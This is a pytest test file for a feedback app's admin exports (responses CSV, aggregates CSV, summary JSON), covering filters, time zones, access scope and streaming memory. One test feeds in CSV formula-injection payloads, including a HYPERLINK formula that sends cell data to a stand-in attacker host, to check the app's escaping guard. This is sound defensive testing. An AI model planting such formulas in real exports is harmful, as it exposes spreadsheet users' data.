"""Exports of the admin site (issue 5): responses CSV (streamed), aggregates CSV, summary JSON.

Data goes in through ``ingest.store_rows`` (the rows and their rollups in one transaction),
at fixed instants, so every expected value below is known in advance.
"""

from __future__ import annotations

import csv
import gc
import io
import itertools
import os
import re
import time
import tracemalloc
import uuid
from datetime import UTC, date, datetime, timedelta
from datetime import time as dt_time
from urllib.parse import parse_qs, urlsplit
from zoneinfo import ZoneInfo

import pytest
from flask import render_template
from sqlalchemy import event, insert, select

from feedback.database import write_transaction
from feedback.extensions import db
from feedback.models import Location, Response, SurveyVersion
from feedback.services.aggregation import GROUPS, summarize
from feedback.services.exports import RESPONSE_COLUMNS, csv_text, safe_cell
from feedback.services.ingest import store_rows
from tests.admin.conftest import fresh
from tests.builders import add_api_token
from tests.helpers.responses import utc

UTC = UTC
CHICAGO = ZoneInfo("America/Chicago")
HONOLULU = ZoneInfo("Pacific/Honolulu")
ALPHA, BETA = "Alpha Passport Office", "Beta Benefits, Hilo"
RESPONSES, AGGREGATES, SUMMARY = (
    "/admin/export/responses.csv",
    "/admin/export/aggregates.csv",
    "/admin/export/summary.json",
)
EXPORTS = (RESPONSES, AGGREGATES, SUMMARY)
_ids = itertools.count(1)


def add(
    session,
    location,
    when: datetime,
    rating: int,
    *,
    channel="kiosk",
    language="en",
    suspect=False,
    offered=(),
    chosen=(),
    comment=None,
) -> uuid.UUID:
    """Store one response (and its rollups) as the write paths do."""
    with write_transaction(session):
        location = session.get(Location, location.id)
        version = SurveyVersion.current_for(session, location.survey_id)
        row = {
            "id": uuid.UUID(int=next(_ids)),
            "location_id": location.id,
            "survey_version_id": version.id,
            "device_id": None,
            "channel": channel,
            "rating": rating,
            "followup_offered": list(offered),
            "followup_chosen": list(chosen),
            "language": language,
            "client_time": when,
            "received_at": when + timedelta(seconds=7),
            "suspect": suspect,
            "payload_hash": "0" * 64,
            "comment": comment,
            "comment_state": "open" if comment else None,
        }
        store_rows(session, [row], scales={version.id: version.scale}, zones={location.id: location.office.tz})
    return row["id"]


def read_csv(response) -> list[dict]:
    assert response.status_code == 200, response.get_data(as_text=True)
    assert response.mimetype == "text/csv"
    text = response.get_data().decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.fixture
def world(build, session, make_user):
    """Alpha (Chicago): A-1 on a five-point scale, A-2 thumbs. Beta (Honolulu): B-1.

    Six responses; on local date 2026-01-14 fall r1, r2 (UTC date the 15th), r3 and r5
    (10:30 p.m. in Honolulu, UTC the 15th).
    """
    alpha, beta = build.office(ALPHA, tz="America/Chicago"), build.office(BETA, tz="Pacific/Honolulu")
    a1 = build.location(code="A-1", office=alpha)
    a2 = build.location(code="A-2", office=alpha, scale="thumbs")
    b1 = build.location(code="B-1", office=beta)
    ids = {
        "r1": add(session, a1, utc("2026-01-14T15:00:00"), 5, offered=("ease", "efficiency"), chosen=("ease",)),
        "r2": add(
            session,
            a1,
            utc("2026-01-15T02:30:00.250000"),
            2,
            channel="qr",
            language="es",
            offered=("efficiency", "employee"),
            chosen=("efficiency", "employee"),
            comment='Long wait, "very" slow',
        ),
        "r3": add(session, a2, utc("2026-01-14T16:00:00"), 1, suspect=True),
        "r4": add(session, a2, utc("2026-01-15T18:00:00"), 2, channel="qr", comment="=1+1"),
        "r5": add(session, b1, utc("2026-01-15T08:30:00"), 4),
        "r6": add(session, a1, utc("2026-01-20T14:00:00"), 4),
    }
    manager = make_user("manager@example.gov", "manager", [a1, a2])
    admin = make_user("admin@example.gov", "admin")
    return {
        "A-1": a1,
        "A-2": a2,
        "B-1": b1,
        "alpha": alpha,
        "beta": beta,
        "ids": ids,
        "manager": manager,
        "admin": admin,
    }


@pytest.fixture
def admin(signed_in_as, world):
    return signed_in_as("admin@example.gov")


@pytest.fixture
def manager(signed_in_as, world):
    return signed_in_as("manager@example.gov")


JAN = {"from": "2026-01-01", "to": "2026-01-31"}
DAY14 = {"from": "2026-01-14", "to": "2026-01-14"}


def export_ids(client, **query) -> list[str]:
    return [row["id"] for row in read_csv(client.get(RESPONSES, query_string=query))]


def ids_of(world, *names) -> list[str]:
    return [str(world["ids"][name]) for name in names]


# --- responses CSV: content ---------------------------------------------------------------------


def test_response_columns_equal_the_stored_data(admin, world, session):
    response = admin.get(RESPONSES, query_string=JAN)
    assert response.is_streamed
    rows = read_csv(response)
    assert tuple(rows[0].keys()) == RESPONSE_COLUMNS
    fresh(session)
    stored = {str(r.id): r for r in session.scalars(select(Response))}
    zones = {world["A-1"].id: CHICAGO, world["A-2"].id: CHICAGO, world["B-1"].id: HONOLULU}
    scales = {world["A-1"].id: "faces5", world["A-2"].id: "thumbs", world["B-1"].id: "faces5"}
    assert len(rows) == 6
    for row in rows:
        r = stored[row["id"]]
        assert row["location"] == r.location.code
        assert row["office"] == r.location.office.name
        assert row["channel"] == r.channel
        assert int(row["rating"]) == r.rating
        assert row["scale"] == scales[r.location_id]
        assert int(row["survey_version"]) == r.survey_version_id
        assert row["language"] == r.language
        assert datetime.fromisoformat(row["client_time_utc"]) == r.client_time
        assert datetime.fromisoformat(row["client_time_utc"]).utcoffset() == timedelta(0)
        local = datetime.fromisoformat(row["client_time_local"])
        assert (
            local == r.client_time and local.utcoffset() == r.client_time.astimezone(zones[r.location_id]).utcoffset()
        )
        assert datetime.fromisoformat(row["received_at_utc"]) == r.received_at
        assert row["suspect"] == ("true" if r.suspect else "false")
        assert row["followup_offered"] == ";".join(r.followup_offered)
        assert row["followup_chosen"] == ";".join(r.followup_chosen)
        assert row["comment"] == safe_cell(r.comment)
    # Ordered by client time; the BETA office name with its comma survives the round trip.
    assert [row["id"] for row in rows] == ids_of(world, "r1", "r3", "r2", "r5", "r4", "r6")
    by_id = {row["id"]: row for row in rows}
    r2 = by_id[str(world["ids"]["r2"])]
    assert r2 == {
        "id": str(world["ids"]["r2"]),
        "location": "A-1",
        "office": ALPHA,
        "channel": "qr",
        "rating": "2",
        "scale": "faces5",
        "survey_version": r2["survey_version"],
        "language": "es",
        "client_time_utc": "2026-01-15T02:30:00.250000+00:00",
        "client_time_local": "2026-01-14T20:30:00.250000-06:00",
        "received_at_utc": "2026-01-15T02:30:07.250000+00:00",
        "suspect": "false",
        "followup_offered": "efficiency;employee",
        "followup_chosen": "efficiency;employee",
        "comment": 'Long wait, "very" slow',
        "comment_state": "open",
    }
    assert by_id[str(world["ids"]["r5"])]["office"] == BETA
    assert by_id[str(world["ids"]["r3"])]["suspect"] == "true"


def test_local_time_column_is_in_the_office_zone_across_dst(admin, world, session):
    # Chicago is UTC-6 in winter, UTC-5 in summer; Honolulu is UTC-10 all year.
    summer = add(session, world["A-1"], utc("2026-07-04T01:15:00"), 5)
    rows = {
        row["id"]: row
        for row in read_csv(admin.get(RESPONSES, query_string={"from": "2026-01-01", "to": "2026-07-31"}))
    }
    assert rows[str(summer)]["client_time_local"] == "2026-07-03T20:15:00-05:00"
    assert rows[str(world["ids"]["r1"])]["client_time_local"] == "2026-01-14T09:00:00-06:00"
    assert rows[str(world["ids"]["r5"])]["client_time_local"] == "2026-01-14T22:30:00-10:00"
    assert rows[str(world["ids"]["r5"])]["client_time_utc"] == "2026-01-15T08:30:00+00:00"


def test_csv_quoting_and_formula_injection_guard(admin, world, session):
    nasty = {
        "formula": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "plus": "+1 great",
        "minus": "-2 stars",
        "at": "@SUM(A1:A9)",
        "tab": "\t=cmd",
        "quote": 'She said "fine", then left',
        "newline": "first line\nsecond, line",
        "plain": "Quick and friendly",
        "inner": "a=b+c-d@e",
    }
    ids = {
        name: add(session, world["A-1"], utc("2026-02-02T15:00:00") + timedelta(minutes=k), 4, comment=text)
        for k, (name, text) in enumerate(nasty.items())
    }
    response = admin.get(RESPONSES, query_string={"from": "2026-02-02", "to": "2026-02-02"})
    raw = response.get_data().decode("utf-8")
    assert raw.startswith("\ufeffid,location,office,")  # BOM for spreadsheets, then the header
    assert raw.endswith("\r\n") and raw.count("\r\n") == len(nasty) + 1  # CRLF rows; the \n inside is quoted
    assert '"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"' in raw
    assert '"She said ""fine"", then left"' in raw
    assert '"first line\nsecond, line"' in raw
    comments = {row["id"]: row["comment"] for row in read_csv(response)}
    expected = {name: ("'" + text if text[0] in "=+-@\t" else text) for name, text in nasty.items()}
    assert {name: comments[str(ids[name])] for name in nasty} == expected


def test_safe_cell_and_csv_text():
    assert [safe_cell(v) for v in ("=1", "+1", "-1", "@a", "\ta", "\ra", "a=1", "", None, 5, -5)] == [
        "'=1",
        "'+1",
        "'-1",
        "'@a",
        "'\ta",
        "'\ra",
        "a=1",
        "",
        "",
        5,
        -5,
    ]
    assert csv_text(("a", "b"), [("x,y", 'q"')], bom=False) == 'a,b\r\n"x,y","q"""\r\n'


# --- responses CSV: filters, file name, scope ------------------------------------------------


def test_filters_change_the_rows(admin, world):
    assert export_ids(admin, **JAN) == ids_of(world, "r1", "r3", "r2", "r5", "r4", "r6")
    # Local dates: r2 (UTC the 15th) is Chicago's 14th, r5 (UTC the 15th) Honolulu's 14th.
    assert export_ids(admin, **DAY14) == ids_of(world, "r1", "r3", "r2", "r5")
    assert export_ids(admin, **{"from": "2026-01-15", "to": "2026-01-15"}) == ids_of(world, "r4")
    assert export_ids(admin, **JAN, location="A-2") == ids_of(world, "r3", "r4")
    assert export_ids(admin, **JAN, location=["a-1", "B-1"]) == ids_of(world, "r1", "r2", "r5", "r6")
    assert export_ids(admin, **JAN, office=world["beta"].slug) == ids_of(world, "r5")
    assert export_ids(admin, **JAN, office=world["alpha"].slug) == ids_of(world, "r1", "r3", "r2", "r4", "r6")
    assert export_ids(admin, **JAN, channel="qr") == ids_of(world, "r2", "r4")
    assert export_ids(admin, **DAY14, channel="kiosk", office=world["alpha"].slug) == ids_of(world, "r1", "r3")
    assert export_ids(admin, **{"from": "2025-01-01", "to": "2025-12-31"}) == []


def test_default_range_is_the_last_30_days(admin, world, session):
    now = datetime.now(UTC).replace(microsecond=0)
    recent = add(session, world["A-1"], now - timedelta(days=3), 5)
    old = add(session, world["A-1"], now - timedelta(days=40), 5)
    ids = export_ids(admin)
    assert str(recent) in ids and str(old) not in ids


def test_default_range_ends_on_the_request_clocks_date(app, admin, world, monkeypatch):
    monkeypatch.setitem(app.config, "CLOCK", lambda: datetime(2026, 1, 20, 23, 30, tzinfo=UTC))
    response = admin.get(RESPONSES)
    assert 'filename="responses_2025-12-22_2026-01-20.csv"' in response.headers["Content-Disposition"]
    assert export_ids(admin) == ids_of(world, "r1", "r3", "r2", "r5", "r4", "r6")  # up to that day


def test_download_headers_name_the_filter(admin, world):
    response = admin.get(
        RESPONSES, query_string={**DAY14, "office": world["alpha"].slug, "location": "a-2", "channel": "qr"}
    )
    assert (
        response.headers["Content-Disposition"]
        == f'attachment; filename="responses_2026-01-14_2026-01-14_{world["alpha"].slug}_A-2_qr.csv"'
    )
    assert "no-store" in response.headers["Cache-Control"]
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    many = admin.get(RESPONSES, query_string={**JAN, "location": ["A-1", "A-2", "B-1", "A-1"]})
    assert 'filename="responses_2026-01-01_2026-01-31_A-1_A-2_B-1.csv"' in many.headers["Content-Disposition"]
    agg = admin.get(AGGREGATES, query_string={**JAN, "group": "week", "include_suspect": "true"})
    assert 'filename="aggregates_2026-01-01_2026-01-31_by-week_with-suspect.csv"' in agg.headers["Content-Disposition"]
    summary = admin.get(SUMMARY, query_string=JAN)
    assert 'filename="summary_2026-01-01_2026-01-31.json"' in summary.headers["Content-Disposition"]


def test_manager_sees_only_their_locations_and_gets_404_for_other_offices(manager, world):
    assert export_ids(manager, **JAN) == ids_of(world, "r1", "r3", "r2", "r4", "r6")
    summary = manager.get(SUMMARY, query_string=JAN).get_json()
    assert summary["locations"] == ["A-1", "A-2"]
    for url in EXPORTS:
        for query in (
            {"location": "B-1"},
            {"location": ["A-1", "B-1"]},
            {"office": world["beta"].slug},
            {"location": "NOPE-1"},
            {"office": "no-such-office"},
        ):
            response = manager.get(url, query_string={**JAN, **query})
            assert response.status_code == 404, (url, query, response.status_code)
            assert "B-1" not in response.get_data(as_text=True)


def test_unauthenticated_requests_go_to_sign_in(client, world):
    for url in EXPORTS:
        response = client.get(url, query_string=JAN)
        assert response.status_code == 302
        location = urlsplit(response.headers["Location"])
        assert location.path == "/admin/login"
        assert parse_qs(location.query)["next"] == [f"{url}?from=2026-01-01&to=2026-01-31"]


@pytest.mark.parametrize(
    "query",
    [
        {"from": "2026-13-01"},
        {"from": "2026-02-01", "to": "2026-01-01"},
        {"channel": "fax"},
        {"group": "year"},
        {"include_suspect": "maybe"},
    ],
)
def test_invalid_filters_answer_400(admin, world, query):
    url = AGGREGATES if set(query) & {"group", "include_suspect"} else RESPONSES
    assert admin.get(url, query_string=query).status_code == 400
    assert admin.get(SUMMARY, query_string=query).status_code == 400


def test_streaming_reads_with_a_server_side_cursor(admin, world, app):
    """The responses query is run with stream_results (yield_per); on PostgreSQL that is a named cursor."""
    seen = []

    def record(conn, cursor, statement, parameters, context, executemany):
        if "FROM responses" in statement:
            seen.append((context.execution_options.get("stream_results"), type(cursor).__name__))

    event.listen(db.engine, "before_cursor_execute", record)
    try:
        assert len(export_ids(admin, **JAN)) == 6
    finally:
        event.remove(db.engine, "before_cursor_execute", record)
    assert [stream for stream, _ in seen] == [True]
    if db.engine.dialect.name == "postgresql":
        assert seen[0][1] == "ServerCursor"


def test_a_download_cut_short_gives_back_its_connection(admin, world, session):
    _bulk_load(session, world["A-1"], 1, 2_000, FIRST)
    fresh(session)
    before = db.engine.pool.checkedout()
    response = admin.get(RESPONSES, query_string={"from": BIG_START.isoformat(), "to": BIG_START.isoformat()})
    body = response.iter_encoded()
    assert next(body).startswith("\ufeffid,".encode())  # the header, sent before any query
    assert next(body).count(b"\r\n") > 100  # rows: the query is running, its cursor open
    assert db.engine.pool.checkedout() == before + 1
    response.close()  # the client went away
    assert db.engine.pool.checkedout() == before


# --- aggregates CSV and summary JSON --------------------------------------------------------------


def _parse_distribution(text: str) -> dict:
    if not text:
        return {}
    return {
        scale: [int(n) for n in counts.split("/")] for scale, counts in (part.split("=") for part in text.split("; "))
    }


def _as_summary_entry(row: dict) -> dict:
    return {
        "count": int(row["count"]),
        "positive": int(row["positive"]),
        "csat": float(row["csat"]) if row["csat"] else None,
        "mean": float(row["mean"]) if row["mean"] else None,
        "scale": row["scale"] or None,
        "distribution": _parse_distribution(row["distribution"]),
        "suspect_count": int(row["suspect_count"]),
    }


@pytest.mark.parametrize("group", GROUPS)
@pytest.mark.parametrize(
    "query",
    [
        JAN,
        {**JAN, "channel": "kiosk", "include_suspect": "1"},
        {**DAY14, "office": "alpha-passport-office"},
        {**JAN, "location": "A-2"},
    ],
)
def test_aggregates_csv_equals_summarize(admin, world, session, group, query):
    rows = read_csv(admin.get(AGGREGATES, query_string={**query, "group": group}))
    assert tuple(rows[0]) == (
        "group",
        "key",
        "count",
        "positive",
        "csat",
        "mean",
        "scale",
        "distribution",
        "suspect_count",
    )
    fresh(session)
    codes = query.get("location")
    office = query.get("office")
    ids = sorted(
        loc.id
        for name, loc in world.items()
        if name in ("A-1", "A-2", "B-1")
        and (codes is None or name == codes)
        and (office is None or loc.office_id == world["alpha"].id)
    )
    expected = summarize(
        session,
        ids,
        date.fromisoformat(query["from"]),
        date.fromisoformat(query["to"]),
        channel=query.get("channel"),
        group=group,
        include_suspect="include_suspect" in query,
    )
    assert expected["total"]["count"] > 0  # every case has data
    assert [(r["group"], r["key"]) for r in rows] == [(group, g["key"]) for g in expected["groups"]] + [("total", "")]
    for row, entry in zip(rows, expected["groups"], strict=False):  # rows end with the total
        assert _as_summary_entry(row) == {k: v for k, v in entry.items() if k not in ("key", "weekday", "hour")}
    assert _as_summary_entry(rows[-1]) == expected["total"]


def test_aggregates_default_to_days_and_show_the_numbers(admin, world):
    rows = read_csv(admin.get(AGGREGATES, query_string={**JAN, "location": "A-1"}))
    # 9 a.m. on the 14th (5) and 8:30 p.m. on the 14th (2, QR), the 20th (4).
    assert [(r["group"], r["key"], r["count"], r["csat"], r["mean"], r["distribution"]) for r in rows] == [
        ("day", "2026-01-14", "2", "0.5", "3.5", "faces5=0/1/0/0/1"),
        ("day", "2026-01-20", "1", "1.0", "4.0", "faces5=0/0/0/1/0"),
        ("total", "", "3", "0.6667", "3.6667", "faces5=0/1/0/1/1"),
    ]
    alpha = read_csv(admin.get(AGGREGATES, query_string={**DAY14, "office": world["alpha"].slug, "group": "location"}))
    # A-2's only tap that day is suspect: left out of the numbers, counted as suspect; mixed scales.
    assert [(r["key"], r["count"], r["suspect_count"], r["mean"], r["scale"]) for r in alpha] == [
        ("A-1", "2", "0", "3.5", "faces5"),
        ("A-2", "0", "1", "", ""),
        ("", "2", "1", "3.5", "faces5"),
    ]


def test_formula_guard_covers_every_text_column(admin, world, session, build):
    office = build.office("=HYPERLINK(1)", tz="America/Chicago")
    add(session, build.location(code="G-1", office=office), utc("2026-01-14T15:00:00"), 5)
    rows = read_csv(admin.get(RESPONSES, query_string={**DAY14, "location": "G-1"}))
    assert [row["office"] for row in rows] == ["'=HYPERLINK(1)"]


@pytest.mark.parametrize(
    "query",
    [
        {**JAN},
        {**JAN, "group": "day"},
        {**JAN, "group": "hour", "channel": "qr"},
        {**DAY14, "group": "location", "include_suspect": "true"},
        {**JAN, "location": ["A-2", "B-1"], "group": "month"},
    ],
)
def test_summary_json_equals_the_read_api(admin, world, session, query):
    with write_transaction(session):
        _token, secret = add_api_token(session, session.get(type(world["admin"]), world["admin"].id))
    api = admin.get("/api/v1/summary", query_string=query, headers={"Authorization": f"Bearer {secret}"})
    assert api.status_code == 200, api.get_data(as_text=True)
    export = admin.get(SUMMARY, query_string=query)
    assert export.status_code == 200 and export.mimetype == "application/json"
    assert export.get_json() == api.get_json()
    assert export.get_json()["total"]["count"] > 0


def test_summary_json_for_an_office_equals_the_api_for_its_locations(manager, world, session):
    with write_transaction(session):
        _token, secret = add_api_token(session, session.get(type(world["manager"]), world["manager"].id))
    api = manager.get(
        "/api/v1/summary",
        query_string={**JAN, "location": ["A-1", "A-2"], "group": "week"},
        headers={"Authorization": f"Bearer {secret}"},
    ).get_json()
    export = manager.get(SUMMARY, query_string={**JAN, "office": world["alpha"].slug, "group": "week"}).get_json()
    assert export == api
    assert (
        manager.get(SUMMARY, query_string=JAN).get_json()
        == manager.get("/api/v1/summary", query_string=JAN, headers={"Authorization": f"Bearer {secret}"}).get_json()
    )


# --- the Export section partial ----------------------------------------------------------------------


def test_export_partial_links_keep_the_filter(app, admin, world):
    query = "from=2026-01-14&to=2026-01-20&location=A-1&location=A-2&channel=kiosk&group=week&sort=csat"
    with app.test_request_context(f"/admin/?{query}"):
        html = render_template("admin/_exports.html")
    links = {
        label: href.replace("&amp;", "&") for href, label in re.findall(r'<a href="([^"]+)" download>([^<]+)</a>', html)
    }
    assert links == {
        "Responses (CSV)": "/admin/export/responses.csv?from=2026-01-14&to=2026-01-20&location=A-1&location=A-2"
        "&channel=kiosk",
        "Aggregates (CSV)": "/admin/export/aggregates.csv?from=2026-01-14&to=2026-01-20&location=A-1"
        "&location=A-2&channel=kiosk&group=week",
        "Summary (JSON)": "/admin/export/summary.json?from=2026-01-14&to=2026-01-20&location=A-1&location=A-2"
        "&channel=kiosk&group=week",
    }
    for href in links.values():
        assert admin.get(href).status_code == 200
    with app.test_request_context("/admin/"):
        html = render_template("admin/_exports.html")
    assert 'href="/admin/export/responses.csv"' in html and 'href="/admin/export/summary.json"' in html
    # A view can set the dates it shows (its defaults may differ) and the group of its aggregates.
    with app.test_request_context("/admin/?channel=qr&group=nonsense"):
        html = render_template(
            "admin/_exports.html",
            export_args={"from": "2026-01-01", "to": "2026-01-31"},
            export_group={"group": "location"},
        )
    assert [href.replace("&amp;", "&") for href in re.findall(r'<a href="([^"]+)"', html)] == [
        "/admin/export/responses.csv?from=2026-01-01&to=2026-01-31&channel=qr",
        "/admin/export/aggregates.csv?from=2026-01-01&to=2026-01-31&channel=qr&group=location",
        "/admin/export/summary.json?from=2026-01-01&to=2026-01-31&channel=qr&group=location",
    ]


# --- constant memory over 200,000 rows ---------------------------------------------------------------
#
# Two measures, because each sees what the other cannot:
# - the process's resident memory (RSS, sampled from /proc while the body is read) sees
#   everything, the database driver's C buffers included (a PostgreSQL client-side cursor
#   would hold the whole result there); cheap, so it measures 20,000 against 200,000 rows;
# - tracemalloc sees the Python heap exactly, but slows Python down several times over, so
#   it measures 2,000 against 20,000 rows.

BIG_DAYS = 10
PER_DAY = 20_000
SMALL = 2_000
BIG_START = date(2026, 3, 2)  # local dates 2026-03-02 .. 2026-03-11 (Chicago; DST starts on the 8th)
FIRST = 10_000_000  # id (as an int) of the first bulk response
MiB = 2**20


def _bulk_load(session, location, days: int, per_day: int, first: int) -> None:
    """``days * per_day`` responses, ``per_day`` on each local date from 8 a.m. to 5 p.m.,
    ids ``first`` onwards, by Core executemany in chunks (no rollups: the export does not read them)."""
    version_id = SurveyVersion.current_for(session, location.survey_id).id
    seq = itertools.count(first)
    chunk = []
    for day in range(days):
        opening = datetime.combine(BIG_START + timedelta(days=day), dt_time(8), CHICAGO).astimezone(UTC)
        for k in range(per_day):
            n = next(seq)
            when = opening + timedelta(seconds=k * 9 * 3600 // per_day)
            chunk.append(
                {
                    "id": uuid.UUID(int=n),
                    "location_id": location.id,
                    "survey_version_id": version_id,
                    "device_id": None,
                    "channel": "kiosk" if n % 3 else "qr",
                    "rating": n % 5 + 1,
                    "followup_offered": ["ease", "efficiency"] if n % 2 else [],
                    "followup_chosen": ["ease"] if n % 4 == 1 else [],
                    "language": "es" if n % 7 == 0 else "en",
                    "client_time": when,
                    "received_at": when + timedelta(seconds=3),
                    "suspect": n % 50 == 0,
                    "payload_hash": "0" * 64,
                    "comment": f"Visit {n}, quick" if n % 10 == 0 else None,
                    "comment_state": "open" if n % 10 == 0 else None,
                }
            )
            if len(chunk) == 20_000:
                with write_transaction(session):  # one executemany per chunk
                    session.connection().execute(insert(Response.__table__), chunk)
                chunk = []
    if chunk:
        with write_transaction(session):
            session.connection().execute(insert(Response.__table__), chunk)


def _rss_bytes() -> int | None:
    try:
        with open("/proc/self/statm") as statm:
            return int(statm.read().split()[1]) * os.sysconf("SC_PAGE_SIZE")
    except (OSError, ValueError):
        return None


def _lines(chunks):
    """CSV lines (with their line ends) from the response's byte chunks, one chunk in memory at a time."""
    rest = ""
    for chunk in chunks:
        lines = (rest + chunk.decode("utf-8")).splitlines(keepends=True)
        rest = lines.pop() if lines and not lines[-1].endswith("\n") else ""
        yield from lines
    if rest:
        yield rest


def _stream_export(client, query, *, trace: bool = False, keep=()) -> dict:
    """Export through the test client reading the body piece by piece, as a server sends it.

    Returns the row count, the rows numbered in ``keep`` (1 = first), the number of chunks,
    the growth of the resident memory over its value before the request (sampled every few
    chunks) and, with ``trace``, tracemalloc's peak of the Python heap during the request.
    """
    gc.collect()
    rss_before = _rss_bytes()
    rss_growth = 0
    if trace:
        tracemalloc.start()
        tracemalloc.reset_peak()
    started = time.perf_counter()
    response = client.get(RESPONSES, query_string=query)
    assert response.status_code == 200 and response.is_streamed
    chunks = 0

    def counted(source):
        nonlocal chunks, rss_growth
        for chunk in source:
            chunks += 1
            if rss_before is not None and chunks % 8 == 0:
                rss_growth = max(rss_growth, _rss_bytes() - rss_before)
            yield chunk

    reader = csv.reader(_lines(counted(response.iter_encoded())))
    header = next(reader)
    assert header[0] == "\ufeffid" and tuple(header[1:]) == RESPONSE_COLUMNS[1:]
    count, kept = 0, {}
    for count, row in enumerate(reader, 1):
        if count in keep:
            kept[count] = row
    response.close()
    peak = None
    if trace:
        peak = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
    if rss_before is not None:
        rss_growth = max(rss_growth, _rss_bytes() - rss_before)
    return {
        "rows": count,
        "kept": kept,
        "chunks": chunks,
        "rss_growth": rss_growth if rss_before else None,
        "peak": peak,
        "seconds": time.perf_counter() - started,
    }


@pytest.mark.slow
def test_export_of_200k_rows_runs_in_constant_memory(admin, world, session, build, capsys):
    started = time.perf_counter()
    _bulk_load(session, world["A-1"], BIG_DAYS, PER_DAY, FIRST)
    few = build.location(code="A-9", office=world["alpha"])
    _bulk_load(session, few, 1, SMALL, FIRST + BIG_DAYS * PER_DAY)
    load_seconds = time.perf_counter() - started
    day = BIG_START.isoformat()
    last_day = (BIG_START + timedelta(days=BIG_DAYS - 1)).isoformat()
    all_days = {"from": day, "to": last_day, "location": "A-1"}  # 200,000 rows
    one_day = {"from": day, "to": day, "location": "A-1"}  # 20,000 rows
    two_k = {"from": day, "to": day, "location": "A-9"}  # 2,000 rows
    total = BIG_DAYS * PER_DAY
    keep = (1, 2, PER_DAY, *(PER_DAY * d for d in range(1, BIG_DAYS + 1)))

    _stream_export(admin, one_day)  # warm-up: compiled statements, zone data, connection pool
    big_heap = _rss_bytes() is None  # no /proc: tracemalloc (slower) measures the 200,000 rows too
    small = _stream_export(admin, one_day, trace=big_heap)
    big = _stream_export(admin, all_days, keep=keep, trace=big_heap)
    heap_small = _stream_export(admin, two_k, trace=True)
    heap_big = _stream_export(admin, one_day, trace=True)
    with capsys.disabled():
        rss = (
            f"RSS growth 20k +{small['rss_growth'] / MiB:.1f} MiB, 200k +{big['rss_growth'] / MiB:.1f} MiB"
            if not big_heap
            else "no /proc"
        )
        print(
            f"\n[{db.engine.dialect.name}] load {load_seconds:.1f}s; {rss} "
            f"(20k in {small['seconds']:.1f}s, 200k in {big['seconds']:.1f}s, {big['chunks']} chunks); "
            f"tracemalloc peak 2k {heap_small['peak'] / MiB:.2f} MiB, 20k {heap_big['peak'] / MiB:.2f} MiB"
        )

    assert (small["rows"], big["rows"], heap_small["rows"], heap_big["rows"]) == (PER_DAY, total, SMALL, PER_DAY)
    assert big["chunks"] > 100  # sent in pieces, not as one body
    if big_heap:
        assert big["peak"] < 16 * MiB and big["peak"] <= small["peak"] + MiB
    else:
        # The whole process, driver buffers included: far below the file's ~30 MB, and ten times
        # the rows cost no more than a small constant.
        assert big["rss_growth"] < 16 * MiB
        assert big["rss_growth"] <= small["rss_growth"] + 8 * MiB
    # The Python heap, exactly: a fixed few MiB whatever the row count.
    assert heap_big["peak"] < 8 * MiB
    assert heap_big["peak"] <= heap_small["peak"] + MiB

    # A few rows' values: the first, the second, and the last of every day, in client time order.
    first = big["kept"][1]
    assert first == [
        str(uuid.UUID(int=FIRST)),
        "A-1",
        ALPHA,
        "kiosk",
        str(FIRST % 5 + 1),
        "faces5",
        first[6],
        "en",
        "2026-03-02T14:00:00+00:00",
        "2026-03-02T08:00:00-06:00",
        "2026-03-02T14:00:03+00:00",
        "true",
        "",
        "",
        f"Visit {FIRST}, quick",
        "open",
    ]
    second = big["kept"][2]
    assert second[0] == str(uuid.UUID(int=FIRST + 1)) and second[12:14] == ["ease;efficiency", "ease"]
    assert second[9] == "2026-03-02T08:00:01-06:00"
    for d in range(1, BIG_DAYS + 1):
        row = big["kept"][PER_DAY * d]
        n = FIRST + PER_DAY * d - 1
        assert row[0] == str(uuid.UUID(int=n)) and row[4] == str(n % 5 + 1)
        local = (BIG_START + timedelta(days=d - 1)).isoformat()
        offset = "-06:00" if d <= 6 else "-05:00"  # Chicago moves to daylight time on March 8
        assert row[9] == f"{local}T16:59:58{offset}", row[9]
